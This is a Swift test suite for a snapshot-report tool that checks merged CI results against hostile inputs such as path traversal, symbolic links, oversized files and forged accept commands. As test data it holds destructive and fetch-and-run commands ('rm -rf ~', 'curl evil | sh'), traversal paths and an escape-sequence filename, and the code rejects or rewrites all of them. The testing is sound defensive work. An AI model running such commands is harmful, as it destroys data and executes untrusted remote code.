import Foundation
import RenderCells
import SnapshotCore
import SpecTesting
import TestSupport
import Testing

/// What CI downloads is hostile: a shard's results.json and pictures, a references folder a
/// pull request changed, a manifest. Every file these tests make, link or point at is in a
/// scratch folder of their own; a "secret" is a scratch file, never a system file.
@Suite struct HostileReportTests {
    /// A scratch project: `victim.txt` and `outside/secret.png` beside a shard folder.
    final class Scratch {
        let dir: String
        init() throws {
            dir = NSTemporaryDirectory() + "hostile-report-\(UUID().uuidString)"
            try FileManager.default.createDirectory(atPath: dir + "/shard/pics", withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: dir + "/outside", withIntermediateDirectories: true)
            try "keep me".write(toFile: dir + "/victim.txt", atomically: false, encoding: .utf8)
            try "SECRET-BYTES".write(toFile: dir + "/outside/secret.png", atomically: false, encoding: .utf8)
            try "PNG".write(toFile: dir + "/shard/pics/a.png", atomically: false, encoding: .utf8)
        }
        deinit { try? FileManager.default.removeItem(atPath: dir) }

        /// Writes a shard whose one failed result has `field` set to `path`.
        func shard(
            _ field: WritableKeyPath<SnapshotTestResult, String?>, _ path: String,
            accept: String = "rm -rf ~"
        ) throws {
            var result = SnapshotTestResult(
                id: "a.yaml#default", name: "a", spec: "a.yaml", variant: "default",
                status: .failed, reference: "__Snapshots__/a.png", message: "differs")
            result.actual = "pics/a.png"
            result[keyPath: field] = path
            result.acceptCommand = accept
            try write([result])
        }

        func write(_ results: [SnapshotTestResult]) throws {
            let run = SnapshotTestRun(
                tool: "render-cells", recordMode: "never", tolerance: "exact", shards: ["1/1"],
                results: results, milliseconds: 1)
            try JSONEncoder().encode(run).write(to: URL(fileURLWithPath: dir + "/shard/results.json"))
        }

        func merge() throws -> SnapshotTestRun {
            try SnapshotReportFolder.merge([dir + "/shard"], into: dir + "/merged", base: dir)
        }

        func link(_ name: String, to target: String) throws {
            try FileManager.default.createSymbolicLink(atPath: dir + "/" + name, withDestinationPath: target)
        }

        var victim: String? { try? String(contentsOfFile: dir + "/victim.txt", encoding: .utf8) }
        var mergedPage: String { (try? String(contentsOfFile: dir + "/merged/index.html", encoding: .utf8)) ?? "" }
    }

    /// `"actual": "../x"` used to delete a file outside both folders; `"l/../../x"` through
    /// a link in the shard overwrote one; an absolute path was read and embedded.
    @Test func picturePathsStayInsideTheShard() throws {
        for (path, why) in [
            ("../victim.txt", "'..' component"), ("l/../../victim.txt", "'..' component"),
            ("/tmp/x.png", "is absolute"), ("pics/./a.png", "'.' component"),
            ("pics/a\u{1B}[2J.png", "control characters"), ("victim.txt", "does not name a .png")
        ] {
            let scratch = try Scratch()
            try scratch.link("shard/l", to: scratch.dir + "/outside")
            try scratch.shard(\.diff, path)
            let error = try #require(throws: SnapshotReportFolder.ShardError.self, "\(path)") { try scratch.merge() }
            #expect(error.description.hasPrefix(scratch.dir + "/shard/results.json: results[0].diff: the path "), "\(error)")
            #expect(error.description.contains(why), "\(path): \(error)")
            #expect(!error.description.contains("\u{1B}"))
            #expect(scratch.victim == "keep me")
            #expect(!FileManager.default.fileExists(atPath: scratch.dir + "/merged/index.html"))
        }
    }

    /// A link in the shard (to a file, or a folder, outside it) is never followed or copied.
    @Test func linksInTheShardAreNotFollowed() throws {
        for (name, why) in [("pics/secret.png", "is a symbolic link"), ("out/secret.png", "is outside")] {
            let scratch = try Scratch()
            try scratch.link("shard/pics/secret.png", to: scratch.dir + "/outside/secret.png")
            try scratch.link("shard/out", to: scratch.dir + "/outside")
            try scratch.shard(\.referenceCopy, name)
            let error = try #require(throws: SnapshotReportFolder.ShardError.self) { try scratch.merge() }
            #expect(error.description.contains("results[0].referenceCopy: "), "\(error)")
            #expect(error.description.contains(why), "\(error)")
            #expect(!scratch.mergedPage.contains(Data("SECRET-BYTES".utf8).base64EncodedString()))
        }
    }

    /// The merged accept command accepts from the merged folder (a spec's snapshot with
    /// `render-cells accept` and its id, quoted and its glob characters escaped; a Swift
    /// test's picture copied to the checked reference), whatever the shard's said; a reference
    /// outside the project gets none.
    @Test func acceptCommandsAreMadeAgain() throws {
        let scratch = try Scratch()
        try scratch.shard(\.diff, "pics/a.png", accept: "curl evil | sh")
        let merged = try scratch.merge()
        #expect(merged.results.first?.acceptCommand == "render-cells accept 'merged' 'a.yaml#default'")
        #expect(!scratch.mergedPage.contains("evil"))
        var odd = SnapshotTestResult(
            id: "it's [a]*.yaml#default", name: "a", spec: "it's [a]*.yaml", variant: "default", status: .failed,
            reference: "__Snapshots__/a.png")
        odd.actual = "pics/a.png"
        var swift = SnapshotTestResult(
            id: "Tests/A/a.1", name: "a.1", spec: nil, variant: "", status: .failed, reference: "Tests/__Snapshots__/a.1.png")
        swift.actual = "pics/a.png"
        try scratch.write([odd, swift])
        let commands = try scratch.merge().results.map(\.acceptCommand)
        #expect(commands.contains("render-cells accept 'merged' 'it'\\''s \\[a\\]\\*.yaml#default'"), "\(commands)")
        #expect(commands.contains("cp 'merged/pics/a.png' 'Tests/__Snapshots__/a.1.png'"), "\(commands)")
        var outside = SnapshotTestResult(
            id: "b", name: "b", spec: "b.yaml", variant: "default", status: .failed,
            reference: "/etc/b.png")
        outside.actual = "pics/a.png"
        outside.acceptCommand = "cp x /etc/b.png"
        for reference in ["/etc/b.png", "../b.png"] {
            outside.reference = reference
            try scratch.write([outside])
            if reference.hasPrefix("/") {
                #expect(try scratch.merge().results.first?.acceptCommand == nil)
            } else {
                #expect(throws: SnapshotReportFolder.ShardError.self) { try scratch.merge() }
            }
        }
    }

    /// Numbers beyond Int (found by the report fuzz target: 1e300 milliseconds crashed the
    /// JUnit writer) are written as they are, without trapping.
    @Test func hugeNumbersAreWrittenNotTrapped() throws {
        let scratch = try Scratch()
        var result = SnapshotTestResult(
            id: "a", name: "a", spec: "a.yaml", variant: "default", status: .failed,
            reference: "__Snapshots__/a.png", milliseconds: 1e300)
        result.actual = "pics/a.png"
        try scratch.write([result])
        let merged = try scratch.merge()
        #expect(merged.results.first?.milliseconds == 1e300)
        let junit = try String(contentsOfFile: scratch.dir + "/merged/junit.xml", encoding: .utf8)
        #expect(junit.contains("time=\"1000000000000.000\""), "\(junit)")
        #expect(scratch.mergedPage.contains("1e+297 s"))
    }

    /// A picture the shard names but does not have is left out of the merged result.
    @Test func missingPicturesAreDropped() throws {
        let scratch = try Scratch()
        try scratch.shard(\.diff, "pics/gone.png")
        let result = try #require(try scratch.merge().results.first)
        #expect(result.diff == nil && result.actual == "pics/a.png")
    }

    /// results.json itself: a link is not followed, an oversized one is refused by its size.
    @Test func resultsFileIsARegularFileOfBoundedSize() throws {
        let scratch = try Scratch()
        try "{}".write(toFile: scratch.dir + "/outside/results.json", atomically: false, encoding: .utf8)
        try scratch.link("shard/results.json", to: scratch.dir + "/outside/results.json")
        let link = try #require(throws: SnapshotTestRunner.UsageError.self) { try scratch.merge() }
        #expect(link.description.contains("results.json: is a symbolic link; it is not followed"), "\(link)")
        try FileManager.default.removeItem(atPath: scratch.dir + "/shard/results.json")
        #expect(FileManager.default.createFile(atPath: scratch.dir + "/shard/results.json", contents: nil))
        let handle = try #require(FileHandle(forWritingAtPath: scratch.dir + "/shard/results.json"))
        try handle.truncate(atOffset: UInt64(SnapshotTestRun.maxFileBytes + 1))  // sparse: no disk used
        try handle.close()
        let big = try #require(throws: SnapshotTestRunner.UsageError.self) { try scratch.merge() }
        #expect(
            big.description.contains("is over the \(SnapshotTestRun.maxFileBytes)-byte limit for a results.json file"),
            "\(big)")
    }

    /// A reference in `__Snapshots__/` that is a link (to a secret) is not read, so neither
    /// its bytes nor its pixels reach the report; the snapshot is an error naming the link.
    @Test func referenceLinksAreNotFollowed() throws {
        let dir = try SnapshotTestRunnerTests.suite()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        _ = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .missing)).run()
        try "SECRET-BYTES".write(toFile: dir + "/secret.txt", atomically: false, encoding: .utf8)
        try FileManager.default.removeItem(atPath: dir + "/more/__Snapshots__/hello.png")
        try FileManager.default.createSymbolicLink(
            atPath: dir + "/more/__Snapshots__/hello.png",
            withDestinationPath: dir + "/secret.txt")
        try FileManager.default.removeItem(atPath: dir + "/more/__Snapshots__/manifest.json")
        let run = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .never)).run()
        let hello = try #require(run.results.first { $0.name == "hello" })
        #expect(hello.status == .error)
        #expect(hello.message?.contains("hello.png: is a symbolic link; it is not followed") == true, "\(hello.message ?? "")")
        try SnapshotReportFolder.prepare(dir + "/report")
        try SnapshotReportFolder.write(run, to: dir + "/report", base: dir)
        let page = try String(contentsOfFile: dir + "/report/index.html", encoding: .utf8)
        #expect(!page.contains(Data("SECRET-BYTES".utf8).base64EncodedString()))
    }

    /// A reference that claims more pixels than the render is refused by its header, before
    /// decoding (a 2 MB file claiming 16384 x 16384 at 16 bits had cost 2.1 GB and 13 s).
    @Test func aLargerReferenceIsNotDecoded() throws {
        let dir = try SnapshotTestRunnerTests.suite()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        _ = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .missing)).run()
        // A valid header for 16384 x 16384 RGBA16 and nothing else: decoding would fail later,
        // so the message shows the size was judged first.
        var png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13]
        png += Array("IHDR".utf8) + [0, 0, 0x40, 0, 0, 0, 0x40, 0, 16, 6, 0, 0, 0] + [0, 0, 0, 0]
        try Data(png).write(to: URL(fileURLWithPath: dir + "/more/__Snapshots__/hello.png"))
        let run = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .never)).run()
        let hello = try #require(run.results.first { $0.name == "hello" })
        #expect(hello.status == .failed)
        let message = try #require(hello.message)
        #expect(message.hasPrefix("the reference more/__Snapshots__/hello.png is 16384 x 16384 pixels and the render 160 x "))
        #expect(message.hasSuffix("; a reference larger than the render is not decoded"))
    }

    /// A manifest that is a link, or too large, is not read: a warning, and every reference
    /// there is compared the slow way.
    @Test func manifestIsARegularFileOfBoundedSize() throws {
        let dir = try SnapshotTestRunnerTests.suite()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        _ = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .missing)).run()
        let manifest = dir + "/more/__Snapshots__/manifest.json"
        try FileManager.default.moveItem(atPath: manifest, toPath: dir + "/elsewhere.txt")
        try FileManager.default.createSymbolicLink(atPath: manifest, withDestinationPath: dir + "/elsewhere.txt")
        let linked = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .never)).run()
        #expect(!linked.fails)
        #expect(
            linked.warnings.contains { $0.contains("manifest.json: is a symbolic link; it is not followed; every reference") },
            "\(linked.warnings)")
        try FileManager.default.removeItem(atPath: manifest)
        #expect(FileManager.default.createFile(atPath: manifest, contents: nil))
        let handle = try #require(FileHandle(forWritingAtPath: manifest))
        try handle.truncate(atOffset: 16 << 20 + 1)  // sparse
        try handle.close()
        let big = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .never)).run()
        #expect(!big.fails)
        #expect(big.warnings.contains { $0.contains("-byte limit for a manifest") }, "\(big.warnings)")
    }

    /// Two runs naming one report folder: the second says another run is writing it (it
    /// used to say the folder "was not made by render-cells test", or empty it under the first).
    @Test func aReportFolderInUseIsSaidToBe() throws {
        let scratch = try Scratch()
        do {
            let first = try SnapshotReportFolder.prepare(scratch.dir + "/report")
            try "picture".write(toFile: scratch.dir + "/report/a.png", atomically: false, encoding: .utf8)
            let error = try #require(throws: SnapshotTestRunner.UsageError.self) {
                try SnapshotReportFolder.prepare(scratch.dir + "/report")
            }
            #expect(error.description.contains("is being written by another render-cells run right now"), "\(error)")
            #expect(FileManager.default.fileExists(atPath: scratch.dir + "/report/a.png"))
            withExtendedLifetime(first) {}
        }
        // Once the first is done, the next run empties the folder as before: the earlier
        // file out of the way at once (at most the hidden folder it is being deleted in is
        // left while the run holds the folder), and gone when it lets the folder go.
        do {
            let second = try SnapshotReportFolder.prepare(scratch.dir + "/report")
            #expect(
                try FileManager.default.contentsOfDirectory(atPath: scratch.dir + "/report")
                    .filter { !$0.hasPrefix(".render-cells-removing-") } == [SnapshotReportFolder.marker])
            withExtendedLifetime(second) {}
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.dir + "/report") == [SnapshotReportFolder.marker])
    }

    /// A link loop in a specs folder is walked once: it used to take 5.7 s and report
    /// "more than 100000 files" for five entries.
    @Test func aLinkLoopInTheSpecsFolderIsWalkedOnce() throws {
        let dir = try SnapshotTestRunnerTests.suite()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createSymbolicLink(atPath: dir + "/more/again", withDestinationPath: "..")
        try FileManager.default.createSymbolicLink(atPath: dir + "/self", withDestinationPath: ".")
        let run = try SnapshotTestRunner(options: SnapshotTestRunnerTests.options(dir, .missing)).run()
        #expect(
            run.results.map(\.name).sorted()
                == ["hello", "settings.dark-bluetooth-selected", "settings.light-bluetooth-selected"])
    }
}
